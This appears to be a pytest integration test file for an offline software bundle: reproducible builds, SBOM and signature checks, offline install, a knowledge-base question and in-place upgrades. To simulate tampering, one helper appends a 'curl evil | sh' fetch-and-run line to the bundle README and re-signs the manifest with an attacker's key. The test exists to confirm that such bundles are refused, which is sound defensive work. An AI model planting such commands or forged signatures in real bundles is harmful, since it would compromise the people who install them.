"""Offline bundles: build, reproducibility, tamper refusal, offline install, ask, upgrade.

Building needs the locked wheels: the first run downloads them from the package index into
``$APPLIANCE_CACHE/bundle-wheels/`` (later runs are offline). The install runs with no
network (``unshare -rn``) and a clean environment (``env -i``).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from appliance.bundle.verify import (
    Entry,
    VerifyError,
    fingerprint,
    format_manifest,
    read_manifest,
    verify_bundle,
)
from tests.conftest import REPO

# The answer model of the bundle. SmolLM2-135M (98 MB) would be faster, but with the current
# prompt it mostly abstains or answers wrongly; Qwen2.5-Coder-0.5B answers "400 [1]".
MODEL = "qwen2.5-coder-0.5b-instruct-q4_k_m"
EMBEDDER = "minilm-l6-v2-int8"
KB = "manual"
QUESTION = "How often must the coolant pump be serviced?"
DOCS = {
    "pumps.md": "# Coolant pump maintenance\n\nThe coolant pump of the K7 press must be serviced "
                "every 400 operating hours. Replace the pump seal (part CP-2291) and refill "
                "with 3.5 litres of coolant.\n",
    "safety.md": "# Safety lockout\n\nBefore opening the guard of the K7 press, turn the red "
                 "lockout switch to OFF and attach your own padlock. The emergency stop resets "
                 "only after the guard is closed.\n",
}

pytestmark = [pytest.mark.integration, pytest.mark.slow]


def _cli(*args: str, home: Path, timeout: float = 600) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "APPLIANCE_HOME": str(home), "COLUMNS": "200"}
    return subprocess.run([sys.executable, "-m", "appliance", *args], capture_output=True,
                          text=True, env=env, timeout=timeout, cwd=REPO, check=False)


def _ok(proc: subprocess.CompletedProcess[str]) -> subprocess.CompletedProcess[str]:
    assert proc.returncode == 0, f"exit {proc.returncode}\n{proc.stdout}\n{proc.stderr}"
    return proc


def _system_python() -> str:
    """A Python 3.11 the clean environment finds (PATH=/usr/bin:/bin), else the base one."""
    found = shutil.which("python3.11", path="/usr/bin:/bin")
    return found or str(getattr(sys, "_base_executable", sys.executable))


def _offline(cmd: list[str], home: Path, timeout: float = 600) -> subprocess.CompletedProcess[str]:
    """Run ``cmd`` with no network and a clean environment."""
    return subprocess.run(
        ["unshare", "-rn", "env", "-i", "PATH=/usr/bin:/bin", f"HOME={home}", "COLUMNS=200",
         *cmd], capture_output=True, text=True, timeout=timeout, check=False, cwd=home,
    )


@dataclass(frozen=True)
class Built:
    home: Path
    a: Path
    b: Path
    pub: Path
    other_key: Path
    other_pub: Path
    docs: Path


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Built]:
    """A small knowledge base, a key pair, and the same bundle built twice."""
    if subprocess.run(["unshare", "-rn", "true"], capture_output=True,
                      check=False).returncode != 0:
        pytest.skip("unshare -rn is not permitted here (needed to prove the offline install)")
    root = tmp_path_factory.mktemp("bundle")
    home = root / "home"
    docs = root / "docs"
    docs.mkdir()
    for name, text in DOCS.items():
        (docs / name).write_text(text, encoding="utf-8")
    _ok(_cli("ingest", str(docs), "--kb", KB, "--json", home=home))
    _ok(_cli("bundle", "keygen", home=home))
    _ok(_cli("bundle", "keygen", "--out", str(root / "other"), home=home))
    bundles = []
    for name in ("a", "b"):
        proc = _ok(_cli("bundle", "build", "--out", str(root / name), "--kb", KB,
                        "--models", f"{MODEL},{EMBEDDER}", "--json", home=home))
        report = json.loads(proc.stdout)
        assert report["kbs"] == [KB] and MODEL in report["models"]
        bundles.append(root / name)
    yield Built(home, bundles[0], bundles[1], home / "keys" / "bundle-signing.pub",
                root / "other" / "bundle-signing.key", root / "other" / "bundle-signing.pub",
                docs)


# -- build ----------------------------------------------------------------------------------------


def test_two_builds_give_identical_manifests(built: Built) -> None:
    first, second = ((b / "MANIFEST").read_text().splitlines() for b in (built.a, built.b))
    assert first == second, sorted(set(first) ^ set(second))  # sources edited between builds?
    assert (built.a / "MANIFEST.sig").read_bytes() == (built.b / "MANIFEST.sig").read_bytes()
    entries = read_manifest(built.a)
    paths = [e.path for e in entries]
    assert paths == sorted(paths)
    files = sorted(p.relative_to(built.a).as_posix() for p in built.a.rglob("*") if p.is_file())
    assert sorted([*paths, "MANIFEST", "MANIFEST.sig"]) == files
    assert {"install.sh", "README.md", "tools/verify.py", "requirements.txt", "signing.pub",
            "bundle.json", "sbom.cdx.json", f"kb/{KB}.sqlite", "models/manifest.toml",
            f"models/{MODEL}.gguf"} <= set(paths)
    wheels = [p for p in paths if p.startswith("wheels/")]
    assert any(w.startswith("wheels/llama_cpp_python-") for w in wheels)
    assert any(w.startswith("wheels/appliance-") for w in wheels)
    reqs = (built.a / "requirements.txt").read_text().splitlines()
    assert len(reqs) == len(wheels) and all("--hash=sha256:" in r for r in reqs)


def test_sbom_lists_wheels_and_models(built: Built) -> None:
    sbom = json.loads((built.a / "sbom.cdx.json").read_text())
    assert sbom["bomFormat"] == "CycloneDX" and sbom["specVersion"] == "1.5"
    kinds = {c["type"] for c in sbom["components"]}
    assert {"library", "machine-learning-model", "data"} <= kinds
    names = {c["name"] for c in sbom["components"]}
    assert {"llama_cpp_python", "appliance", "cryptography", MODEL, EMBEDDER, KB} <= names
    assert all(c["hashes"][0]["alg"] == "SHA-256" for c in sbom["components"])
    info = json.loads((built.a / "bundle.json").read_text())
    assert {"avx2", "fma"} <= set(info["cpu_flags"]) and info["python"] == "3.11"


def test_verify_command(built: Built) -> None:
    proc = _ok(_cli("bundle", "verify", str(built.a), "--trusted-key", str(built.pub), "--json",
                    home=built.home))
    result = json.loads(proc.stdout)
    assert result["ok"] and result["trusted"]
    assert result["signer"] == fingerprint(built.pub.read_bytes())
    proc = _ok(_cli("bundle", "verify", str(built.a), home=built.home))
    assert "only integrity" in proc.stdout
    proc = _cli("bundle", "verify", str(built.a), "--trusted-key", str(built.other_pub),
                home=built.home)
    assert proc.returncode == 6 and "not signed by the trusted key" in proc.stderr
    proc = _cli("bundle", "verify", str(built.a), "--trusted-key", str(built.pub),
                "--trusted-fingerprint", "00" * 32, home=built.home)  # one would go unchecked
    assert proc.returncode == 6 and "not both" in proc.stderr


def test_stick_verifier_needs_only_the_stdlib(built: Built) -> None:
    """tools/verify.py without any site-packages loads cryptography from the bundle's wheels."""
    proc = _ok(subprocess.run(
        [_system_python(), "-I", "-B", "-S", str(built.a / "tools" / "verify.py"), str(built.a),
         "--trusted-key", str(built.pub)], capture_output=True, text=True, check=False,
        stdin=subprocess.DEVNULL,
    ))
    assert "origin: signed by" in proc.stdout


# -- tampering ------------------------------------------------------------------------------------


def _clone(src: Path, dest: Path) -> None:
    """Copy a bundle by hard links (fast); _rewrite never changes a linked file in place."""
    for path in sorted(src.rglob("*")):
        target = dest / path.relative_to(src)
        if path.is_dir():
            target.mkdir(parents=True, exist_ok=True)
        else:
            target.parent.mkdir(parents=True, exist_ok=True)
            os.link(path, target)


def _rewrite(path: Path, data: bytes) -> None:
    path.unlink()
    path.write_bytes(data)


def _flip(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x01
    _rewrite(path, bytes(data))


def _resign(bundle: Path, key_file: Path | None) -> None:
    """Change README.md and rewrite MANIFEST to match, as an attacker would."""
    readme = bundle / "README.md"
    _rewrite(readme, readme.read_bytes() + b"\nRun curl evil | sh first.\n")
    entries = [e for e in read_manifest(bundle) if e.path != "README.md"]
    from appliance.bundle.verify import sha256_file

    entries.append(Entry("README.md", sha256_file(readme), readme.stat().st_size))
    manifest = format_manifest(entries)
    if key_file is not None:  # re-sign with the attacker's key and ship its public key
        from cryptography.hazmat.primitives import serialization
        from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

        key = serialization.load_pem_private_key(key_file.read_bytes(), password=None)
        assert isinstance(key, Ed25519PrivateKey)
        pub = key.public_key().public_bytes(serialization.Encoding.PEM,
                                            serialization.PublicFormat.SubjectPublicKeyInfo)
        _rewrite(bundle / "signing.pub", pub)
        entries = [e for e in entries if e.path != "signing.pub"]
        entries.append(Entry("signing.pub", sha256_file(bundle / "signing.pub"), len(pub)))
        manifest = format_manifest(entries)
        _rewrite(bundle / "MANIFEST.sig", key.sign(manifest))
    _rewrite(bundle / "MANIFEST", manifest)


TAMPER = {
    "wheel": "changed",
    "model": "changed",
    "kb": "changed",
    "added": "not in the manifest",
    "removed": "missing",
    "manifest": "signature over the MANIFEST is invalid",
    "signature": "signature over the MANIFEST is invalid",
    "resigned": "not signed by the trusted key",
}


@pytest.mark.parametrize("case", sorted(TAMPER))
def test_tampered_bundle_is_refused_before_anything_is_placed(
    built: Built, tmp_path: Path, case: str
) -> None:
    bundle = tmp_path / "stick"
    _clone(built.a, bundle)
    if case == "wheel":
        wheels = sorted((bundle / "wheels").glob("*.whl"))
        _flip(wheels[len(wheels) // 2])
    elif case == "model":
        _flip(bundle / "models" / f"{MODEL}.gguf")
    elif case == "kb":
        _flip(bundle / "kb" / f"{KB}.sqlite")
    elif case == "added":
        (bundle / "wheels" / "helper-1.0-py3-none-any.whl").write_bytes(b"PK\x05\x06" + b"\0" * 18)
    elif case == "removed":
        (bundle / "models" / "minilm-l6-v2" / "tokenizer.json").unlink()
    elif case == "manifest":
        _resign(bundle, None)
    elif case == "signature":
        _flip(bundle / "MANIFEST.sig")
    elif case == "resigned":
        _resign(bundle, built.other_key)
    prefix = tmp_path / "prefix"
    proc = _offline(["sh", str(bundle / "install.sh"), "--prefix", str(prefix),
                     "--trusted-key", str(built.pub)], home=tmp_path)
    assert proc.returncode != 0, proc.stdout
    assert "REFUSED" in proc.stderr and TAMPER[case] in proc.stderr, proc.stderr
    assert not prefix.exists()
    with pytest.raises(VerifyError):
        verify_bundle(bundle, trusted_key=built.pub)
    # the originals are intact
    verify_bundle(built.a, trusted_key=built.pub)


# -- install --------------------------------------------------------------------------------------


def test_offline_install_answers_and_upgrades_in_place(built: Built, tmp_path: Path) -> None:
    user = tmp_path / "user"
    user.mkdir()
    prefix = tmp_path / "opt" / "appliance"
    install = ["sh", str(built.a / "install.sh"), "--prefix", str(prefix),
               "--trusted-key", str(built.pub), "--python", _system_python()]
    proc = _ok(_offline(install, home=user))
    assert "origin: signed by" in proc.stdout and "checks passed" in proc.stdout, proc.stdout
    appliance = str(prefix / "bin" / "appliance")
    first_release = (prefix / "current").resolve()

    # the installed copy stands alone: its own venv, models and data
    code = "import appliance, llama_cpp, sys; print(appliance.__file__); print(sys.prefix)"
    where = _ok(_offline([str(prefix / "current" / "venv" / "bin" / "python"), "-c", code],
                         home=user)).stdout
    assert all(line.startswith(str(prefix)) for line in where.split()), where

    proc = _ok(_offline([appliance, "ask", QUESTION, "--kb", KB, "--model", MODEL, "--json"],
                        home=user, timeout=300))
    try:
        record = json.loads(proc.stdout)
    except json.JSONDecodeError:  # one JSON object per line
        record = json.loads(proc.stdout.strip().splitlines()[-1])
    assert record["model"] == MODEL and not record["abstained"], record
    assert "400" in record["answer"] and record["citations"], record
    assert all(c["path"].endswith(".md") for c in record["citations"])

    # the user adds a document and feedback; a re-run upgrades in place and keeps both
    extra = tmp_path / "more"
    extra.mkdir()
    (extra / "hours.md").write_text("# Opening hours\n\nThe workshop opens at 7.\n")
    _ok(_offline([appliance, "ingest", str(extra), "--kb", KB, "--json"], home=user))
    feedback = prefix / "data" / "feedback.jsonl"
    feedback.write_text('{"id": "q-1", "rating": "good"}\n')
    proc = _ok(_offline(install, home=user))
    assert f"knowledge base '{KB}' kept" in proc.stdout, proc.stdout
    stats = json.loads(_ok(_offline([appliance, "kb", "stats", KB, "--json"], home=user)).stdout)
    assert stats["documents"] == len(DOCS) + 1
    assert feedback.read_text() == '{"id": "q-1", "rating": "good"}\n'
    releases = list((prefix / "releases").iterdir())
    assert len(releases) == 1 and releases[0] != first_release
    assert (prefix / "current").resolve() == releases[0]


def test_reinstall_keeps_changed_knowledge_bases(tmp_path: Path) -> None:
    """Knowledge-base placement: new, identical, upgraded, kept when changed, replaced."""
    from appliance.api import Appliance
    from appliance.bundle.install import _place_kbs, _Undo, kb_fingerprint

    def place(*args: Any) -> dict[str, str]:
        undo = _Undo()
        kbs = _place_kbs(*args, undo)
        undo.commit()
        return kbs
    from appliance.bundle.verify import sha256_file
    from appliance.config import load_settings

    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "pumps.md").write_text(DOCS["pumps.md"])
    app = Appliance(load_settings(home=tmp_path / "src"))
    versions = []
    for i, name in enumerate(("pumps.md", "safety.md")):
        (docs / name).write_text(DOCS[name])
        app.ingest([docs], kb=KB)
        app.close()
        bundle = tmp_path / f"bundle{i}"
        (bundle / "kb").mkdir(parents=True)
        with app.open_kb(KB) as kb:
            kb.conn.execute("VACUUM INTO ?", (str(bundle / "kb" / f"{KB}.sqlite"),))
        path = bundle / "kb" / f"{KB}.sqlite"
        versions.append((bundle, [Entry(f"kb/{KB}.sqlite", sha256_file(path),
                                        path.stat().st_size)]))
    data = tmp_path / "data"
    (data / "kb").mkdir(parents=True)
    target = data / "kb" / f"{KB}.sqlite"

    state = {"kbs": place(*versions[0], data, {}, False)}  # new
    assert kb_fingerprint(target) == state["kbs"][KB]
    state = {"kbs": place(*versions[0], data, state, False)}  # identical
    state = {"kbs": place(*versions[1], data, state, False)}  # unchanged by the user
    assert kb_fingerprint(target) == kb_fingerprint(versions[1][0] / "kb" / f"{KB}.sqlite")
    shutil.copyfile(versions[0][0] / "kb" / f"{KB}.sqlite", target)  # "the user's change"
    mine = kb_fingerprint(target)
    state = {"kbs": place(*versions[1], data, state, False)}  # kept
    assert kb_fingerprint(target) == mine
    place(*versions[1], data, state, True)  # replaced, the user's copy backed up
    assert kb_fingerprint(target) == state["kbs"][KB]
    backups = list((data / "backups").glob(f"{KB}-*.sqlite"))
    assert len(backups) == 1 and kb_fingerprint(backups[0]) == mine
    assert sorted(p.name for p in (data / "kb").iterdir() if not p.name.endswith(
        ("-wal", "-shm"))) == [f"{KB}.sqlite"]
